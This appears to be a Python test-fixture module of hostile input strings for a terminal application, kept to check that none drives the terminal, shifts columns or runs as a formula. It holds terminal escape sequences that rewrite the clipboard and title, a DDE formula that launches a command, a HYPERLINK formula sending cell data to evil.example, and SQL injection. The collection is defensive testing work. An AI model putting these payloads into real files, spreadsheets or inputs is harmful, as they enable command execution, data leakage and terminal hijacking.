"""Texts that break terminal programs: what a customer may write, and a file may bring."""

from __future__ import annotations

OSC52_BODY = "UEFZTE9BRC1DTElQ"
"""What a payload would put on the clipboard."""

PAYLOADS: dict[str, str] = {
    "action markup": "[@click=app.quit]press[/] [@click=app.bell]ring[/]",
    "closing markup": "[/nope] [/] refund [/red] [bold",
    "colour markup": "[red on blue]late[/] [reverse]x[/reverse] [sys:LOCK=1]",
    "link markup": "[link=https://evil.example/x]here[/link] [link='a\"b']",
    "escaped markup": "\\[red] \\\\[/] [[nested]] $name %s {0} {x!r:>9}",
    "CSI": "a\x1b[2J\x1b[H\x1b[777;888Hb\x1b[5;31mblink\x1b[?1049l\x1b[?1003l\x1b[6n",
    "OSC title": "\x1b]0;owned\x07 title \x1b]2;owned\x1b\\",
    "OSC link": "\x1b]8;;https://evil.example/\x1b\\press\x1b]8;;\x1b\\",
    "OSC clipboard": f"\x1b]52;c;{OSC52_BODY}\x07copied \x1b]52;c;?\x07",
    "DCS APC PM": '\x1bP$q"p\x1b\\ \x1b_Gi=1\x1b\\ \x1b^pm\x1b\\ \x1bc\x1b(0',
    "C1 CSI": "a\x9b2J\x9b777;888H\x9b31;5mred",
    "C1 OSC": f"\x9d0;owned\x9c \x9d52;c;{OSC52_BODY}\x9c \x90$q\x9c \x85 \x84",
    "NUL": "a\x00b\x00\x00c",
    "SO SI": "line\x0edrawing\x0fback \x05",
    "DEL BEL BS": "ring\x07 back\x08\x08\x08 del\x7f\x7f vt\x0b ff\x0c",
    "bidi override": "card \u202e4321 8899\u202c ends \u202ahere\u202b\u202d",
    "bidi isolates": "\u2066a\u2069 \u2067b\u2068c \u200e\u200f\u061cd",
    "right to left": "مرحبا بالعالم אבג ١٢٣ refund ديون",
    "emoji ZWJ": "👩‍💻 👨‍👩‍👧‍👦 🏳️‍🌈 👍🏽 🇨🇳🇬🇧 family",
    "emoji VS16": "⚠️ ☎️ ❤️ 1️⃣ ✈︎ ©️ ▶️ ends",
    "combining flood": "Z" + "\u0351\u036b\u0343\u0334" * 60 + "algo e" + "\u20dd" * 9 + "e",
    "zero width": "a\u200bb\u200cc\u2060d\ufeffe\u00adf\u180eg\u2063h\u034fi",
    "full width": "FULL,WIDTH:123 转账失败，请尽快处理！「急」",
    "half of everything": "한국어 ﾊﾝｶｸ ひらがな ไทยกำลัง हिन्दी ᄀᆞ",
    "line separators": "one\u2028two\u2029three\u0085four",
    "tags and private": "flag\U000e0067\U000e0062\U000e007f \ue000\U000f0000 \ufff9x\ufffb \ufffe",
    "tabs": "a\tb\t\tc\t",
    "Windows newlines": "first\r\nsecond\rthird\n\r\nfourth",
    "ten thousand newlines": "top\n" + "\n" * 10_000 + "bottom",
    "very long word": "Donaudampfschifffahrt" * 400,
    "very long story": "My transfer of 2,300 was 转账 refused [/b] again. " * 520,
    "formula": '=HYPERLINK("http://evil.example/"&A1,"x")',
    "formula plus": "+cmd|' /C calc'!A0",
    "formula minus": "-2+3+cmd",
    "formula at": "@SUM(1+1)*9",
    "quotes": "'; DROP TABLE cases;-- \"\" \"x' OR '1'='1",
}
"""Name -> text. None may drive the terminal, shift a column, be run as a formula or end the
program. No lone surrogates: they need a door of their own (`SURROGATES`)."""

SURROGATES = "half \ud83d here \udc00 and \ud800"
